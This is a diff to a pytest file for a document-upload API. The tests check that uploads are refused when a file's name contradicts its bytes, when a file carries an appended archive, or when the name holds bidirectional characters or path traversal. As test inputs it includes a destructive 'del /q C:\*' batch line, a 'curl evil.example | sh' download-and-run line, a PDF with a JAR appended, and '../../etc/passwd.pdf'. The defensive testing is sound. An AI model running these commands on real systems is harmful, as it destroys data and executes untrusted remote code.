@@ -310,7 +310,7 @@ async def test_archives_that_are_no_office_file_and_scripts_are_refused_and_not_
             "peticao.pdf",
             "Petição \u2066final\u2069",
             "title",
-            "The title has an invisible control or formatting character "
+            "title has an invisible control or formatting character "
             "(U+2066, LEFT-TO-RIGHT ISOLATE), which can disguise what is shown; remove it.",
         ),
     ],
@@ -328,6 +328,59 @@ async def test_a_name_or_title_with_bidirectional_controls_is_refused(
     assert body["data"] is None
     assert error(body)["extensions"] == {"code": "BAD_USER_INPUT", "field": field}
     assert error(body)["message"] == message
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "message"),
+    [
+        (PDF, "a.exe", "The file's name ends in .exe but its content is a PDF; name it with .pdf."),
+        (
+            b"@echo off\r\ndel /q C:\\*\r\n",
+            "limpa.cmd",
+            "The file's name ends in .cmd but its content is plain text; "
+            "name it with .txt, .csv, .tsv, .md or .log.",
+        ),
+        (
+            b"curl evil.example | sh\n",
+            "run.sh",
+            "The file's name ends in .sh but its content is plain text; "
+            "name it with .txt, .csv, .tsv, .md or .log.",
+        ),
+        (
+            PDF + archive(("META-INF/MANIFEST.MF", "Main-Class: A\n"), ("A.class", "")),
+            "peticao.pdf",
+            "The file carries an archive inside: a ZIP (or JAR) is appended to its content.",
+        ),
+    ],
+    ids=["pdf-as-exe", "cmd-script", "sh-without-shebang", "pdf-with-jar"],
+)
+async def test_a_name_the_bytes_contradict_or_a_file_carrying_an_archive_is_refused(
+    client: httpx.AsyncClient,
+    office: Staff,
+    docket: Docket,
+    settings: Settings,
+    content: bytes,
+    name: str,
+    message: str,
+) -> None:
+    before = stored_files(settings)
+    body = await upload(client, office.token, docket.own, content, name=name)
+    assert body["data"] is None
+    assert error(body)["extensions"] == {"code": "BAD_USER_INPUT", "field": "file"}
+    assert error(body)["message"] == message
+    assert stored_files(settings) == before
+
+
+async def test_a_name_without_extension_is_stored_with_the_types_own(
+    client: httpx.AsyncClient, office: Staff, docket: Docket
+) -> None:
+    body = await upload(client, office.token, docket.own, PDF, name="contrato")
+    document = data(body)["uploadDocument"]
+    assert (document["title"], document["fileName"], document["contentType"]) == (
+        "contrato",
+        "contrato.pdf",
+        "application/pdf",
+    )
 
 
 @pytest.mark.parametrize("name", ["../../etc/passwd.pdf", "docs/../../x.pdf", ".."])
